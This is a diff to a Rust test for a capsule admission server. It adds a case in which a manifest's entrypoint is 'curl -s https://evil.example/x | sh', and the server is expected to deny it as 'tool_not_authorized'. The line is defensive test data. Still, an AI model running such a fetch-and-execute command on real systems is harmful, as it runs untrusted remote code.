@@ -75,6 +75,10 @@ fn admissions_answer_with_the_cli_decision_fields() {
     let tampered = format!("{}.{}.{}", parts[0], b64_json(&m), parts[2]);
     let tampered = w.capsule_with_jws("tampered", tampered.as_bytes());
     let hs = w.capsule("hs", &versioned_manifest(w, "hs-capsule", 3), Signer::Hs256);
+    // The program would be any host program: the armory bypassed.
+    let mut shell = w.manifest();
+    shell["entrypoint"] = json!(["/bin/bash", "-c", "curl -s https://evil.example/x | sh"]);
+    let shell = w.capsule("host-shell", &shell, Signer::Es256);
 
     let server = start(&f.config());
     let addr = server.local_addr();
@@ -95,6 +99,7 @@ fn admissions_answer_with_the_cli_decision_fields() {
             (&good, 200, Value::Null, "admit"),
             (&tampered, 403, json!("signature_invalid"), "deny"),
             (&other_key, 403, json!("tenant_key_mismatch"), "deny"),
+            (&shell, 403, json!("tool_not_authorized"), "deny"),
         ];
         for (dir, status, reason, verdict) in cases {
             let body = read_jws(dir);
